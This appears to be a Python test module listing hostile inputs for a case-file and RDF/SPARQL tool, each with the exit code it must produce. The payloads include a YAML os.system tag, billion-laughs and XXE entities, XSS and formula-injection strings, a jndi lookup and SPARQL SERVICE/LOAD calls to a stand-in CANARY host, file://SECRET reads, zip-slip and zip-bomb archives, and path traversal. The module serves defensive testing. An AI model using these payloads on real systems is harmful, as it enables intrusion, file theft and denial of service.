"""Files, queries and requests that somebody might send to do harm: a table, each with the outcome it must have.

A row is (door, name, content, exit codes that are right, words that must be told). Contents are small or made here.
`CANARY` stands for the address of a server that nothing may ask, `SECRET` for a file that nothing may read.
"""

import io
import json
import zipfile
from collections.abc import Iterator
from typing import NamedTuple

__all__ = ["DOORS", "Input", "corpus"]


class Input(NamedTuple):
    """One hostile input."""

    door: str
    name: str
    content: bytes
    codes: tuple[int, ...]
    words: str = ""


HEAD = "case: c\nsources: {d: {label: a docket}}\n"
DOE = "people: {doe: {name: Jane Doe, source: d}}\n"
CONVICTION = "convictions: {k: {person: doe, offence: theft, law_broken: US-WI, date: 2000, source: d}}\n"
SOUND = HEAD + DOE + CONVICTION

BROKEN = {  # a case file that must be refused, and what is said of it
    "empty": ("", ""), "not utf-8": (b"case: \xff", "E002"), "utf-16": (SOUND.encode("utf-16"), ""),
    "nul": (HEAD + "x: \0", "E002"), "escape": (HEAD + "x: \x1b[2J", "E002"), "alias": (HEAD + "a: &x 1\nb: *x\n", "E005"),
    "laughs": ("a: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]\n", "E005"), "merge": (HEAD + "<<: {a: b}\n", ""),
    "python tag": ("case: !!python/object/apply:os.system ['touch owned']\n", "E006"), "tag": ("case: !x y\n", "E006"),
    "binary tag": ("case: !!binary aGk=\n", "E006"), "duplicate": (SOUND + DOE, "E004"), "two documents": (SOUND + "---\n" + SOUND, "E003"),
    "tab": ("case:\n\t- x\n", "E003"), "open bracket": ("case: [", "E003"), "deep list": ("case: " + "[" * 5_000, ""),
    "deep mapping": ("case: " + "{a: " * 5_000, ""), "closed deep list": ("case: " + "[" * 3_000 + "]" * 3_000, ""),
    "deep block": ("\n".join(" " * i + "a:" for i in range(600)), ""), "a list": ("- case\n", ""), "a text": ("case", ""),
    "a number": ("7", ""), "null": ("~", ""), "percent": ("%YAML 9.9\n---\ncase: c\n", ""), "include": ("case: c\n!include SECRET\n", ""),
    "name climbs": (SOUND.replace("case: c", "case: ../../etc/passwd"), ""), "name absolute": (SOUND.replace("case: c", "case: /etc"), ""),
    "name with line": (SOUND.replace("case: c", 'case: "c\\nd"'), ""), "name turned": (SOUND.replace("case: c", 'case: "c\\u202ed"'), ""),
    "id climbs": (SOUND.replace("doe", "../doe"), ""), "id with quote": (SOUND.replace("k:", "'k\"><script>':"), ""),
    "id with blank": (SOUND.replace("k:", "'k } SELECT':"), ""), "unknown key": (SOUND + "password: x\n", "E101"),
    "own law redefined": (SOUND + "offices: {US-president: {label: King, source: d}}\n", ""), "wrong kind": (SOUND.replace("theft", "[1]"), ""),
    "no person": (HEAD + CONVICTION, ""), "no source": ("case: c\n" + DOE, ""), "surrogate": (SOUND.replace("Jane", '"\\ud800"'), ""),
    "day 99": (SOUND.replace("2000", "2000-99-99"), ""), "year 10000": (SOUND.replace("2000", "10000-01-01"), ""),
    "400 digits": (SOUND.replace("2000", "9" * 400), ""), "range turned": (SOUND.replace("2000", "2010/2001"), ""),
    "many dots": (SOUND.replace("2000", "." * 3_000), ""),
     "script address": (SOUND.replace("{label:", "{url: 'javascript:alert(1)', label:"), ""),
    "file address": (SOUND.replace("{label:", "{url: 'file://SECRET', label:"), ""), "data address": (SOUND.replace("{label:", "{url: 'data:text/html,x', label:"), ""),
    "long text": (SOUND.replace("Jane", "J" * 200_000), "E008"), "long key": (SOUND + "x" * 100_000 + ": y\n", "E003"), "many keys": (SOUND + "".join(f"k{i}: v\n" for i in range(500)), "E101"),
    "circle": (HEAD + "organisations: {a: {label: a, part_of: a, source: d}}\n" + DOE + "people: {}\n", ""),
}  # fmt: skip
ABSURD = {  # what may be taken for what it says, and ends neither the program nor its patience
    "duration": SOUND + f"sentences: {{s: {{conviction: k, term: P{'9' * 400}Y, source: d}}}}\n", "duration of signs": SOUND + f"sentences: {{s: {{conviction: k, term: {'P1Y' * 900}, source: d}}}}\n",
    "long name": SOUND.replace("case: c", "case: " + "9" * 5_000), "long id": SOUND.replace("doe", "d" * 5_000),
}  # fmt: skip
LABELS = {  # texts that a sound file may hold: they are shown as text or refused, and never act
    "script": "<script>alert(1)</script>", "image": "<img src=x onerror=alert(1)>", "svg": "</text><svg onload=alert(1)>",
    "math": "$\\\\frac{1}{0}$", "latex": "\\\\input{SECRET}", "formula": "=cmd|' /C calc'!A0", "at": "@SUM(1+1)", "minus": "-2+3", "percent": "%s%n%x%d",
    "braces": "{0.__class__}{{7*7}}", "quote": "\\\" } INSERT DATA { <x> <y> <z> } #", "iri": "> . <x:a> <x:b> <x:c> . <x", "turned": "\\u202eeoD enaJ",
    "isolates": "\\u2066Doe\\u2069", "separator": "a\\u2028b\\u2029c\\u0085d", "joiners": "\\u200c\\u200d\\u2060", "marks": "e" + "\\u0301" * 500,
    "tags": "\\U000e0041\\U000e0042", "emoji": "\\U0001f468\\u200d\\U0001f469", "wide": "\\uff1cscript\\uff1e", "private": "\\ue000", "last": "\\U0010fffd",
    "long": "Doe " * 3_000, "one word": "D" * 5_000, "markdown": "[x](javascript:alert(1))", "ansi words": "[31mred[0m", "template": "${jndi:ldap://CANARY}",
    "path": "../../../../SECRET", "comment": "--> ]]> */ #", "entity": "&xxe; &#x3C;script&#x3E;",
}  # fmt: skip
QUERIES = {  # what each must be refused for
    "service": ("SELECT * { SERVICE <CANARY> { ?s ?p ?o } }", "SERVICE"), "silent": ("SELECT * { SERVICE SILENT <CANARY> { ?s ?p ?o } }", "SERVICE"),
    "glued": ("PREFIX e: <CANARY> ASK { SERVICEe:x { ?s ?p ?o } }", "SERVICE"), "escaped name": (r"ASK { OPTIONAL { ?s cg:a\#b ?o } SERVICE <CANARY> {} }", "SERVICE"),
    "less-than": ("ASK { FILTER(1<2#>'''\n) SERVICE <CANARY> {} } #'''", ""), "code point": (r"ASK { \u0053ERVICE <CANARY> {} }", "SERVICE"),
    "return": ("ASK { ?s ?p ?o #\rSERVICE <CANARY> {} }", "SERVICE"), "variable": ("ASK { BIND(<CANARY> AS ?x) SERVICE ?x {} }", "SERVICE"),
    "nested": ("ASK { FILTER NOT EXISTS { SERVICE <CANARY> {} } }", "SERVICE"), "from": ("ASK FROM <CANARY> {}", "FROM"), "from file": ("ASK FROM <file://SECRET> {}", "FROM"),
    "from named": ("ASK FROM NAMED <CANARY> {}", "FROM"), "from glued": ("ASKFROM<CANARY>{}", "FROM"), "load": ("LOAD <CANARY>", "LOAD"), "load file": ("LOAD <file://SECRET>", "LOAD"),
    "insert": ("INSERT DATA { <x:a> <x:b> <x:c> }", "INSERT"), "delete": ("DELETE WHERE { ?s ?p ?o }", "DELETE"), "clear": ("CLEAR ALL", "CLEAR"), "drop": ("drop all", "DROP"),
    "create": ("CREATE GRAPH <x:g>", "CREATE"), "copy": ("COPY DEFAULT TO <x:g>", "COPY"), "move": ("MOVE <x:a> TO <x:b>", "MOVE"), "add": ("ADD <x:a> TO <x:b>", "ADD"),
    "two": ("ASK {} ; DROP ALL", "DROP"), "braces": ("ASK " + "{" * 4_000 + "}" * 4_000, "nests"), "parens": ("ASK { FILTER" + "(" * 4_000 + "1" + ")" * 4_000 + "}", "nests"),
    "triples": ("ASK { " + "<<" * 4_000 + "?s ?p ?o" + ">> ?p ?o" * 4_000 + "}", ""), "brackets": ("ASK { ?s ?p " + "[ ?p " * 3_000 + "1" + "]" * 3_000 + "}", "nests"),
    "bangs": ("ASK { FILTER(" + "!" * 9_000 + "true) }", "too long"), "unions": ("ASK { {}" + " UNION {}" * 9_000 + " }", "too long"), "long": ("ASK { ?s ?p ?o }" + " ?x" * 30_000, "too long"),
    "paths": ("ASK { ?s " + "^" * 9_000 + "<x:p> ?o }", "too long"), "open text": ("ASK { ?s ?p 'x }", "never closed"), "open long text": ("ASK { ?s ?p '''x }", ""),
    "escape": ("ASK { \x1b[2J }", "character"), "no query": ("", ""), "letters": ("SELECT SELECT SELECT", ""), "unknown prefix": ("ASK { ?s nope:x ?o }", "nope"),
    "unknown term": ("ASK { ?s a cg:Convicton }", "Conviction"), "wide": ("ASK { ｛ }", "character"),
}  # fmt: skip
DATA = {  # foreign RDF that must be refused; its ending stands before the name
    ".ttl relative": "<a> <b> <c> .", ".ttl open": "<x:a> <x:b> ", ".ttl prefix": "x:a x:b x:c .", ".ttl text": "<x:a> <x:b> 'c", ".ttl deep": "<x:a> <x:b> " + "<<( <x:a> <x:b> " * 2_000,
    ".ttl lists": "<x:a> <x:b> " + "(" * 9_000, ".ttl brackets": "<x:a> <x:b> " + "[ <x:b> " * 9_000, ".nt turtle": "@prefix x: <x:> .", ".nt blank": "<x:a> <x:b c> <x:d> .",
    ".nt escape": r"<x:a> <x:b> '\q' .", ".nq five": "<x:a> <x:b> <x:c> <x:d> <x:e> .", ".nq bytes": b"<x:a> <x:b> <x:\xff> .", ".trig open": "<x:g> { <x:a> <x:b> <x:c>",
    ".jsonld context": '{"@context": "CANARY", "@id": "x:a"}', ".jsonld list of contexts": '{"@context": [{"a": "x:a"}, "CANARY"], "a": 1}', ".jsonld import": '{"@context": {"@import": "CANARY"}}',
    ".jsonld file": '{"@context": "file://SECRET", "@id": "x:a"}', ".jsonld deep": "[" * 100_000, ".jsonld open": '{"@id": ', ".jsonld scoped": '{"@context": {"a": {"@id": "x:a", "@context": "CANARY"}}, "a": {"b": 1}}',
    ".rdf doctype": '<!DOCTYPE r [<!ENTITY a SYSTEM "file://SECRET">]><r>&a;</r>', ".rdf outside": '<!DOCTYPE r SYSTEM "CANARY"><r/>', ".rdf laughs": '<!DOCTYPE l [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><l>&b;</l>',
    ".rdf open": "<r>", ".rdf no xml": "hello", ".owl doctype": "<!doctype html>",
}  # fmt: skip
LINES = {  # JSON Lines that must be refused
    "nul": '{"case": "c", "sources": {"d": {"label": "a\\u0000b"}}}', "surrogate": '{"case": "\\ud800"}', "deep": "[" * 100_000, "deep mapping": '{"a":' * 50_000, "number": "7", "nan": '{"case": NaN}',
    "twice": '{"case": "c", "case": "d"}', "open": '{"case": ', "bytes": b'{"case": "\xff"}', "blank": '{"case": "a b"}', "long text": '{"case": "c", "title": "' + "a" * 200_000 + '"}', "climbs": '{"case": "../x"}',
}  # fmt: skip
PATHS = ("/../../SECRET", "/%2e%2e/%2e%2e/SECRET", "/..%2f..%2fSECRET", "//SECRET", "/%00", "/static/../../SECRET", "/thing/%0d%0aSet-Cookie:x", "/thing/<script>", "/" + "a" * 5_000,
         "/ask?q=%3Cscript%3Ealert(1)%3C/script%3E", "/sparql?query=ASK%20%7B%20SERVICE%20%3CCANARY%3E%20%7B%7D%20%7D", "/ask?q=" + "a" * 3_000, "/case/..%5c..%5cSECRET", "/%ff%fe")  # fmt: skip
DOORS = ("check", "label", "query", "rdflib", "data", "lines", "verify", "serve")


def _bytes(content: str | bytes) -> bytes:
    return content if isinstance(content, bytes) else content.encode(errors="surrogatepass")


def _archives() -> Iterator[tuple[str, bytes]]:
    def packed(files: dict[str, bytes], comment: bytes = b"0" * 64, how: int = zipfile.ZIP_STORED) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", how) as archive:
            for name, content in files.items():
                archive.writestr(zipfile.ZipInfo(name), content, compress_type=how)
            archive.comment = comment
        return out.getvalue()

    whole = {"manifest.json": json.dumps({"format": "casegraph evidence bundle 1"}).encode()}
    yield "no archive", b"PK not really"
    yield "empty", b""
    yield "empty archive", packed({})
    yield "climbs", packed({**whole, "../../owned": b"x"})
    yield "absolute", packed({**whole, "/tmp/owned": b"x"})
    yield "bomb", packed({**whole, "graph.nq": b"0" * 3_000_000}, how=zipfile.ZIP_DEFLATED)
    yield "many", packed({str(number): b"" for number in range(400)})
    yield "no manifest", packed({"graph.nq": b""})
    yield "manifest of brackets", packed({"manifest.json": b"[" * 100_000})
    yield "manifest of bytes", packed({"manifest.json": b"\xff"})
    yield "manifest is a list", packed({"manifest.json": b"[]"})
    yield "other comment", packed(whole, b"PK\x05\x06" * 16)
    yield "cut", packed(whole)[:-30]
    yield "nested triples", packed({**whole, "graph.nq": b"<x:a> <x:b> " + b"<<( <x:a> <x:b> " * 3_000})


def corpus() -> list[Input]:
    """Every input."""
    found = [Input("check", name, _bytes(text), (1, 2), words) for name, (text, words) in BROKEN.items()]
    found += [Input("check", name, _bytes(text), (0, 1)) for name, text in ABSURD.items()]
    found += [
        Input("label", name, SOUND.replace("theft", f'"{text}"').encode(), (0, 1)) for name, text in LABELS.items()
    ]
    found += [Input("query", name, _bytes(text), (2,), words) for name, (text, words) in QUERIES.items()]
    found += [
        Input("rdflib", name, _bytes(QUERIES[name][0]), (2,))
        for name in ("service", "glued", "code point", "from", "from file", "load")
    ]
    found += [Input("data", name, _bytes(text), (1, 2)) for name, text in DATA.items()]
    found += [Input("lines", name, _bytes(text), (1, 2)) for name, text in LINES.items()]
    found += [Input("verify", name, content, (1, 2)) for name, content in _archives()]
    found += [Input("serve", path[:40], path.encode(), (200, 301, 303, 307, 400, 404, 405, 414, 422)) for path in PATHS]
    return found
